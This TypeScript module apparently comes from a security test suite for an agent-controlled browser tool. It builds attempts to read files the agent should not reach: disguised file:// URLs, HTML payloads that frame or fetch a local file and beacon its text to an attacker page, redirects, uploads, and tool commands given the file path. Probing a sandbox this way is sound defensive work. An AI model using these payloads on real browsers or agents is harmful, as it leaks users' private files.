/** Ways to read a file that is not the agent's. */
import type { Attempt, Way } from "../attempt.ts";

const SPELLINGS: Readonly<Record<string, (path: string) => string>> = {
  plain: (path) => `file://${path}`,
  capitals: (path) => `FILE://${path}`,
  short: (path) => `file:${path}`,
  host: (path) => `file://localhost${path}`,
  source: (path) => `view-source:file://${path}`,
  dots: (path) => `file://${path.replace(/\/([^/]+)$/, "/x/../$1")}`,
  escaped: (path) => `file://${path.replace(/([^/])$/, (last) => `%${last.charCodeAt(0).toString(16)}`)}`,
  folder: (path) => `file://${path.replace(/\/[^/]+$/, "/")}`,
};

const SHOW = "(text) => { document.body.append(text); navigator.sendBeacon('/got', text); }";

/** Pages that lead to a file, by what they do so with. */
const PAGES: Readonly<Record<string, (url: string) => string>> = {
  iframe: (url) => `<iframe src="${url}"></iframe>`,
  object: (url) => `<object data="${url}"></object>`,
  embed: (url) => `<embed src="${url}">`,
  frameset: (url) => `<frameset cols="*"><frame src="${url}"></frameset>`,
  refresh: (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  location: (url) => `<script>location = "${url}"</script>`,
  "pop-up": (url) => `<script>open("${url}")</script>`,
  "pop-up's frame": (url) =>
    `<script>w = open("about:blank"); w?.document.write("<iframe src='${url}'></iframe>")</script>`,
  form: (url) => `<form action="${url}"></form><script>document.forms[0].submit()</script>`,
  link: (url) => `<a id=a href="${url}">a</a><script>a.click()</script>`,
  "new tab link": (url) => `<a id=a target=_blank href="${url}">a</a><script>a.click()</script>`,
  "download link": (url) => `<a id=a download href="${url}">a</a><script>a.click()</script>`,
  srcdoc: (url) => `<iframe srcdoc="<iframe src='${url}'></iframe>"></iframe>`,
  script: (url) => `<script src="${url}"></script>`,
  picture: (url) => `<img src="${url}">`,
  style: (url) => `<link rel=stylesheet href="${url}">`,
  fetch: (url) => `<script>fetch("${url}").then((r) => r.text()).then(${SHOW})</script>`,
  XMLHttpRequest: (url) =>
    `<script>x = new XMLHttpRequest(); x.onload = () => (${SHOW})(x.responseText); x.open("GET", "${url}"); x.send()</script>`,
  worker: (url) => `<script>new Worker("${url}")</script>`,
};

/** Command lines that take a file, with the file's place marked. */
const TAKERS: readonly (readonly string[])[] = [
  ["load-html", "FILE"],
  ["batch", "FILE"],
  ["scan", "FILE"],
  ["eval", "FILE"],
  ["cookie-import", "FILE"],
  ["pdf", "--from-file", "FILE"],
];

const UPLOADER = `<input type=file id=f multiple><p id=d ondragover="event.preventDefault()">drop</p><script>
  const show = async (files) => { for (const file of files) (${SHOW})(await file.text()); };
  f.onchange = () => show(f.files);
  d.ondrop = (event) => { event.preventDefault(); show(event.dataTransfer.files); };
</script>`;

export function fileReadingWays(files: readonly string[]): Way[] {
  return files.flatMap((file) => [...byAddress(file), ...byPage(file), ...byParam(file)]);
}

function byAddress(file: string): Way[] {
  return Object.entries(SPELLINGS).flatMap(([spelling, urlOf]) => {
    const url = urlOf(file);
    const open = async (attempt: Attempt, ...argv: string[]) => {
      await attempt.open("about:blank");
      await attempt.line(...argv);
      await attempt.lookAround();
    };
    return [
      { kind: "goto", name: `goto ${spelling} ${file}`, run: (attempt) => open(attempt, "goto", url) },
      { kind: "newtab", name: `newtab ${spelling} ${file}`, run: (attempt) => open(attempt, "newtab", url) },
      {
        kind: "diff",
        name: `diff ${spelling} ${file}`,
        run: (attempt) => open(attempt, "diff", url, attempt.household.attacker.url),
      },
      {
        kind: "download",
        name: `download ${spelling} ${file}`,
        run: (attempt) => open(attempt, "download", url, ".browse/artifacts/got.txt"),
      },
    ];
  });
}

function byPage(file: string): Way[] {
  const url = `file://${file}`;
  return Object.entries(PAGES).flatMap(([how, html]): Way[] => [
    {
      kind: `${how} in a page`,
      name: `${how} to ${file} in a page`,
      run: (attempt) => attempt.visit(attempt.page(html(url))),
    },
    {
      kind: `${how} behind a redirect`,
      name: `${how} to ${file} behind a redirect`,
      run: (attempt) => attempt.visit(attempt.page(html(attempt.redirect(url)))),
    },
    {
      kind: `${how} in given HTML`,
      name: `${how} to ${file} in given HTML`,
      door: "local",
      run: async (attempt) => {
        await attempt.open("about:blank");
        await attempt.line("load-html", "--html", html(url));
        await attempt.lookAround();
      },
    },
    {
      kind: `${how} in a file of its own`,
      name: `${how} to ${file} in a file of its own`,
      door: "local",
      run: async (attempt) => {
        const made = `${attempt.household.workspace.project.stateDir}/artifacts/own.html`;
        await attempt.open(attempt.page(`<xmp>${html(url)}</xmp>`));
        await attempt.line("text", "xmp", "--out", made);
        await attempt.line("goto", `file://${made}`);
        await attempt.lookAround();
      },
    },
  ]);
}

function byParam(file: string): Way[] {
  const taken = TAKERS.map((argv): Way => {
    const line = argv.map((word) => (word === "FILE" ? file : word));
    return {
      kind: argv.join(" "),
      name: line.join(" "),
      door: "local",
      run: async (attempt) => {
        await attempt.open(attempt.household.attacker.url);
        await attempt.line(...line);
        await attempt.lookAround();
      },
    };
  });
  const given = [
    ["upload", "#f"],
    ["drop", "#d"],
  ].map(
    (argv): Way => ({
      kind: argv.join(" "),
      name: `${argv.join(" ")} ${file}`,
      door: "local",
      run: (attempt) => attempt.visit(attempt.page(UPLOADER), () => attempt.line(...argv, file)),
    }),
  );
  return [...taken, ...given];
}
